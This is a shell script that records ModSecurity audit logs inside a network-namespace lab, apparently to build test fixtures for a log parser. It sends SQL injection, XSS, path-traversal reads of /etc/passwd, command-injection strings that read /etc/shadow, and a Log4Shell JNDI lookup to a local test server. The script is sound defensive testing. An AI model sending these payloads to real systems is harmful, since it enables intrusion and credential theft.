#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Records the JSON audit log of ModSecurity 2.9 under Apache from requests sent
# here: once with rules of our own that block, once with the OWASP core rule set
# that only detects (many messages a request).
# Usage (root): packaging/record/modsecurity/record.sh OUTPUT_DIR
# Needs: apache2-bin libapache2-mod-security2 modsecurity-crs curl iproute2
set -eu
here=$(cd "$(dirname "$0")" && pwd)
out=$(mkdir -p "$1" && cd "$1" && pwd)
. "$here/../lab.sh"

mkdir "$lab/www"
echo '你好' >"$lab/www/index.html"
echo 'root:x:0:0:root:/root:/bin/sh' >"$lab/www/leak.txt"
cat >"$lab/crs.conf" <<END
SecDefaultAction "phase:1,log,auditlog,pass"
SecDefaultAction "phase:2,log,auditlog,pass"
Include /etc/modsecurity/crs/crs-setup.conf
Include /usr/share/modsecurity-crs/rules/*.conf
END

start() { # engine, rules, time zone, audit parts
    sed "s|@LAB@|$lab|g; s|@ENGINE@|$1|; s|@RULES@|$2|; s|@PARTS@|$4|" "$here/lab.conf.in" \
        >"$lab/httpd.conf"
    rm -f "$lab/audit.json"
    TZ=$3 ip netns exec "$inside" /usr/sbin/apache2 -X -f "$lab/httpd.conf" 2>"$lab/start.log" &
    server=$!
    pids="$pids $server"
    lab_wait 10 ip netns exec "$outside" curl -s -o /dev/null \
        -H 'Host: www.example.com' http://192.0.2.20/index.html
}

finish() { # name
    kill $server
    wait $server 2>/dev/null || true
    # The folder's name is of this machine alone.
    sed "s|$lab|/srv/lab|g; s|$(echo "$lab" | sed 's|/|\\\\/|g')|\\\\/srv\\\\/lab|g" \
        "$lab/audit.json" >"$out/$1.audit.json"
    echo "$out/$1.audit.json: $(wc -l <"$out/$1.audit.json") transactions"
}

ask() { # curl options
    ip netns exec "$outside" curl -s -o /dev/null --max-time 5 --path-as-is \
        --interface 203.0.113.10 -H "Host: ${host:-www.example.com}" "$@" || true
}

requests() {
    ask -A 'nikto/2.5' http://192.0.2.20/
    ask 'http://192.0.2.20/item?id=1%27+UNION+SELECT+user,pw+FROM+t--'
    ask 'http://192.0.2.20/search?q=%3Cscript%3Ealert(1)%3C/script%3E&lang=%E4%B8%AD%E6%96%87'
    ask 'http://192.0.2.20/../../etc/passwd'
    ask 'http://192.0.2.20/db/site.sql.bak'
    ask -X TRACE http://192.0.2.20/
    host=192.0.2.20 ask http://192.0.2.20/
    ask --data 'cmd=whoami;id' http://192.0.2.20/run.php
    ask --data 'user=a&token=secret-value' http://192.0.2.20/login
    ask http://192.0.2.20/leak.txt
    # Bytes that are no UTF-8, quotes, a control, GBK.
    ask --data-binary "$(printf 'q=<script>\377\376 \326\320\316\304 "\001\\')" \
        -A "$(printf 'Mozilla "quoted" \\ \t')" http://192.0.2.20/form
    ask -H 'X-Forwarded-For: 198.51.100.77' -H 'Cookie: a=<script>' \
        'http://192.0.2.20/?a=1&a=2&b[]=union%20select'
    ip netns exec "$outside" curl -g -s -o /dev/null --max-time 5 \
        --interface 2001:db8:2::10 -A nikto/6 'http://[2001:db8:1::20]/' || true
}

cp "$here/own.rules" "$lab/"
start On "$lab/own.rules" Asia/Shanghai ABCEFHJKZ
requests
finish own
start DetectionOnly "$lab/crs.conf" UTC ABDEFHIJZ # the shipped default
ask 'http://192.0.2.20/item?id=1%27+UNION+SELECT+user,pw+FROM+t--'
ask -A 'sqlmap/1.7' 'http://192.0.2.20/?q=%3Cscript%3Ealert(1)%3C/script%3E'
ask --data 'file=../../../../etc/passwd&cmd=;cat+/etc/shadow' http://192.0.2.20/run.php
ask -H 'X-Api: ${jndi:ldap://203.0.113.10/a}' http://192.0.2.20/
finish crs
